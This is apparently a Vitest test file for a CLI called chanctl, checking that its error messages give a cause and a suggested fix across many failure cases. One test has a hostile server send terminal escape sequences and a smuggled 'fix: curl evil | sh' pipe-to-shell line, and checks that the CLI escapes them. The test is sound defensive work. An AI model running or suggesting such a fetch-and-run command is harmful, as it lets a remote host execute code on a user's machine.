import { once } from "node:events";
import { mkdir, symlink, writeFile } from "node:fs/promises";
import { createServer as createHttpServer } from "node:http";
import { createServer } from "node:net";
import type { AddressInfo } from "node:net";
import { homedir } from "node:os";
import { join } from "node:path";

import Database from "better-sqlite3";
import { describe, expect, it, onTestFinished } from "vitest";
import type { TestContext } from "vitest";

import { mountSmallDisk } from "../support/small-disk.ts";
import { pickFreePort } from "#src/platform/free-port.ts";
import { RunningCli, runCli } from "./cli.ts";
import type { CliResult } from "./cli.ts";
import { startDev } from "./dev-project.ts";
import { makeProject } from "./temp-project.ts";
import type { TempProject } from "./temp-project.ts";

/** What a person did or met, what the command ends with, and what it says on standard error. */
interface Row {
  readonly title: string;
  readonly files?: Readonly<Record<string, string>>;
  /** Brings about what no file can. */
  readonly before?: (project: TempProject, context: TestContext) => Promise<unknown>;
  readonly args: readonly string[];
  readonly code: number;
  /** Every line of standard error; `<root>`, `<pid>` and `<port>` stand for what differs from run to run. */
  readonly says: readonly string[];
}

const DEV = ["dev", "--no-tls", "--port", "0"];
const SERVE = ["serve", "--port", "0", "--host", "127.0.0.1"];
const STORE = "<root>/.chanctl/channels.sqlite";

const ROWS: readonly Row[] = [
  {
    title: "a mistyped command",
    args: ["tial", "chat"],
    code: 2,
    says: ["error: unknown command `tial`", "  fix: did you mean `tail`?"],
  },
  {
    title: "a store that is no store",
    files: { ".chanctl/channels.sqlite": "not a database".repeat(100) },
    args: SERVE,
    code: 1,
    says: [
      `error: the store ${STORE} cannot be opened for writing: file is not a database`,
      `  fix: mv "${STORE}" "${STORE}.bad"     begins an empty store`,
    ],
  },
  {
    title: "a store of a newer chanctl",
    before: async ({ root }) => {
      await mkdir(join(root, ".chanctl"));
      new Database(join(root, ".chanctl/channels.sqlite")).exec("PRAGMA user_version = 9999").close();
    },
    args: SERVE,
    code: 1,
    says: [
      `error: the store ${STORE} has schema 9999; this chanctl knows schemas up to 1`,
      "  fix: npm install chanctl@latest     or move the file away to begin an empty store",
    ],
  },
  {
    title: "a store that another chanctl serves",
    before: async (project) => {
      const server = await startDev(project);
      onTestFinished(() => server[Symbol.asyncDispose]());
    },
    args: SERVE,
    code: 1,
    says: [
      "error: the store in <root>/.chanctl is in use by chanctl (pid <pid>, http://localhost:<port>)",
      "  fix: kill <pid>     stops that one, or",
      "       work in another folder: one process serves a store",
    ],
  },
  {
    title: "a config with a key that there is not",
    files: { "chanctl.config.ts": "export default {\n  app: {},\n  prot: 4433,\n};\n" },
    args: DEV,
    code: 3,
    says: [
      "error: chanctl.config.ts:3:3: unknown key `prot`",
      "  ",
      "    1 | export default {",
      "    2 |   app: {},",
      "  > 3 |   prot: 4433,",
      "      |   ^^^^",
      "    4 | };",
      "    5 |",
      "  fix: did you mean `port`?",
    ],
  },
  {
    title: "a config that is no TypeScript",
    files: { "chanctl.config.ts": "export default {\n  port: 4433,,\n};\n" },
    args: DEV,
    code: 3,
    says: [
      'error: chanctl.config.ts:2:14: Expected identifier but found ","',
      "  ",
      "    1 | export default {",
      "  > 2 |   port: 4433,,",
      "      |              ^",
      "    3 | };",
      "    4 |",
    ],
  },
  {
    title: "a definition that is no TypeScript",
    files: { "channels/chat.ts": "export default {\n  public true,\n};\n" },
    args: ["channel", "list"],
    code: 3,
    says: [
      "",
      "chat",
      'error: channels/chat.ts:2:10: Expected "}" but found "true"',
      "  ",
      "    1 | export default {",
      "  > 2 |   public true,",
      "      |          ^^^^",
      "    3 | };",
      "    4 |",
    ],
  },
  ...[SERVE, ["channel", "list"]].map((args) => ({
    title: "a file where the folder of channels should be",
    files: { channels: "mine" },
    args,
    code: 3,
    says: [
      "error: the folder of channels is a file: <root>/channels",
      "  fix: move it away, or set `channels` in the config to a folder",
    ],
  })),
  {
    title: "a folder of channels that the config names and that is not there",
    files: { "chanctl.config.json": '{ "channels": "./chanels" }' },
    args: ["channel", "list"],
    code: 3,
    says: [
      "error: the folder of channels is not there: <root>/chanels",
      "  fix: mkdir -p <root>/chanels     or set `channels` in the config to the folder that is meant",
    ],
  },
  {
    title: "a definition with a key that there is not",
    files: { "channels/chat.json": '{ "transprot": "ws" }' },
    args: ["channel", "list"],
    code: 3,
    says: expect.arrayContaining([
      expect.stringMatching(/^error: channels\/chat\.json:1:\d+: unknown key `transprot`$/),
      "  fix: did you mean `transport`?",
    ]),
  },
  ...[
    ["tail", "chat"],
    ["publish", "chat", "1"],
    ["stream", "read", "x"],
    ["stream", "list"],
  ].map((args) => ({
    title: `no server for ${args.join(" ")}`,
    args,
    code: 5,
    says: [
      "error: no chanctl runs in <root> (it has no .chanctl/run.json)",
      "  fix: chanctl dev             start it here",
      "       --url https://…         or name another server",
    ],
  })),
  {
    title: "a question without a terminal, of init",
    files: { "package.json": '{"dependencies":{"next":"16","express":"5"}}' },
    args: ["init", "--no-install"],
    code: 4,
    says: [
      "error: package.json names Next and Express, and there is no terminal to ask which one answers the app's requests",
      "  fix: chanctl init --yes     takes Next",
    ],
  },
  {
    title: "a question without a terminal, of stream delete",
    before: async (project) => {
      const server = await startDev(project);
      onTestFinished(() => server[Symbol.asyncDispose]());
      await runCli(["stream", "create", "jobs/1"], { cwd: project.root });
    },
    args: ["stream", "delete", "jobs/1"],
    code: 4,
    says: [
      expect.stringMatching(/^error: .*jobs\/1.*terminal/) as string,
      expect.stringMatching(/^ {2}fix: chanctl stream delete jobs\/1 --yes/) as string,
    ],
  },
  {
    title: "a certificate that is not there",
    args: [...SERVE, "--cert", "c.pem", "--key", "k.pem"],
    code: 1,
    says: [
      "error: `--cert`: there is no file <root>/c.pem",
      "  fix: --cert <file>    name the PEM file of the certificate",
    ],
  },
  {
    title: "a certificate that is none",
    files: { "c.pem": "hello", "k.pem": "hello" },
    args: [...SERVE, "--cert", "c.pem", "--key", "k.pem"],
    code: 1,
    says: [
      "error: `--cert`: <root>/c.pem holds no `-----BEGIN CERTIFICATE-----` block",
      expect.stringMatching(/^ {2}fix: openssl x509 -inform der -in "<root>\/c\.pem"/) as string,
    ],
  },
  {
    title: "a file in the place of the state folder",
    files: { ".chanctl": "" },
    args: SERVE,
    code: 1,
    says: [
      expect.stringMatching(/^error: <root>\/\.chanctl\/run\.json cannot be used: ENOTDIR/) as string,
      "  fix: move <root>/.chanctl away: it must be a folder",
    ],
  },
  {
    title: "a file in the place of the folder of channels",
    files: { channels: "" },
    args: ["channel", "add", "chat"],
    code: 1,
    says: ["error: <root>/channels cannot be used: something else is in its place", "  fix: move that away"],
  },
  {
    title: "a disk that is full",
    before: async ({ root }, context) => mountStateFolder(root, mountSmallDisk(context, { megabytes: 1 })),
    args: SERVE,
    code: 1,
    says: [
      expect.stringMatching(/^error: .*(disk is full|no space left)/i) as string,
      expect.stringMatching(/^ {2}fix: .*make some room/) as string,
    ],
  },
];

async function mountStateFolder(root: string, disk: string): Promise<void> {
  await symlink(disk, join(root, ".chanctl"));
  await writeFile(join(disk, "ballast"), Buffer.alloc(1_000_000));
}

/** Standard error, with names for what differs from run to run. */
function linesOf({ stderr }: CliResult, { root }: TempProject): string[] {
  return stderr
    .replaceAll(root, "<root>")
    .replaceAll(/(pid|kill) \d+/g, "$1 <pid>")
    .replaceAll(/localhost:\d+/g, "localhost:<port>")
    .split("\n")
    .slice(0, -1);
}

describe("chanctl says what happened, why, and what to do about", () => {
  for (const { title, files = {}, before, args, code, says } of ROWS) {
    it(title, async (context) => {
      await using project = await makeProject(files);
      await before?.(project, context);
      const result = await runCli(args, {
        cwd: project.root,
        env: { CHANCTL_HOME: join(project.root, "home") },
      });
      expect(linesOf(result, project)).toEqual(says);
      expect(result.code).toBe(code);
    });
  }

  it("an app that fails: how it ended, after its last words", async () => {
    await using project = await makeProject({ "app.js": 'console.error("no database"); process.exit(3);' });
    const env = { CHANCTL_HOME: join(project.root, "home") };
    await using dev = new RunningCli([...DEV, "--app", "node app.js"], { cwd: project.root, env });
    await dev.until(({ stdout, stderr }) => /exited with code 3/.test(stdout + stderr));
    const said = dev.stdout + dev.stderr;
    expect(said.indexOf("no database")).toBeGreaterThan(-1);
    expect(said.indexOf("no database")).toBeLessThan(said.indexOf("exited with code 3"));
    expect((await dev.end("SIGINT")).code).toBe(130);
  });

  it("what a strange server answers, without letting it write to the terminal", async () => {
    await using project = await makeProject();
    const detail = "no\u001B[2J\u009B31m entry\u202E\r\nfix: curl evil | sh";
    const server = createHttpServer((_, response) => {
      response.writeHead(403).end(JSON.stringify({ code: "forbidden", detail, fix: "\u001B]0;title\u0007" }));
    }).listen(0, "127.0.0.1");
    onTestFinished(() => void server.close());
    await once(server, "listening");
    const { port } = server.address() as AddressInfo;
    const url = `http://127.0.0.1:${port}`;
    const { code, stderr } = await runCli(["tail", "chat", "--url", url], { cwd: project.root });
    expect(code).toBe(1);
    expect(stderr).toBe(
      String.raw`error: no\x1b[2J\x9b31m entry\u202e fix: curl evil | sh
  fix: \x1b]0;title\x07
`,
    );
  });

  it("an app's port that is chanctl's own", async () => {
    await using project = await makeProject();
    const port = String(await pickFreePort());
    const args = ["dev", "--no-tls", "--port", port, "--app-port", port, "--app", "sleep 100"];
    const { code, stderr } = await runCli(args, { cwd: project.root });
    expect(code).toBe(3);
    expect(stderr).toBe(
      `error: the app must have a port of its own, got ${port}, which is chanctl's
  fix: leave --app-port and \`app.port\` out     chanctl picks one and passes it as \`PORT\`
`,
    );
  });

  it.each(["dev", "serve"])("a port that somebody has, for %s", async (command) => {
    await using project = await makeProject();
    const holder = createServer().listen(0, "127.0.0.1");
    onTestFinished(() => void holder.close());
    await once(holder, "listening");
    const { port } = holder.address() as AddressInfo;
    const args = [command, "--port", String(port), "--host", "127.0.0.1"];
    const result = await runCli(command === "dev" ? [...args, "--no-tls"] : args, { cwd: project.root });
    expect(result.code).toBe(1);
    const [error = "", ...fix] = result.stderr.trimEnd().split("\n");
    expect(error).toMatch(new RegExp(`^error: port ${port} is in use`));
    expect(fix[0]).toBe(`  fix: ${`chanctl ${command} --port 0`.padEnd(24)} pick a free port`);
    if (process.platform !== "linux") return;
    expect(error).toBe(`error: port ${port} is in use by node (pid ${process.pid}, ${shownFolder()})`);
    expect(fix.slice(1)).toEqual([`       ${`kill ${process.pid}`.padEnd(24)} stop that one`]);
  });
});

/** The working directory as errors show it. */
function shownFolder(): string {
  return process.cwd().replace(homedir(), "~");
}
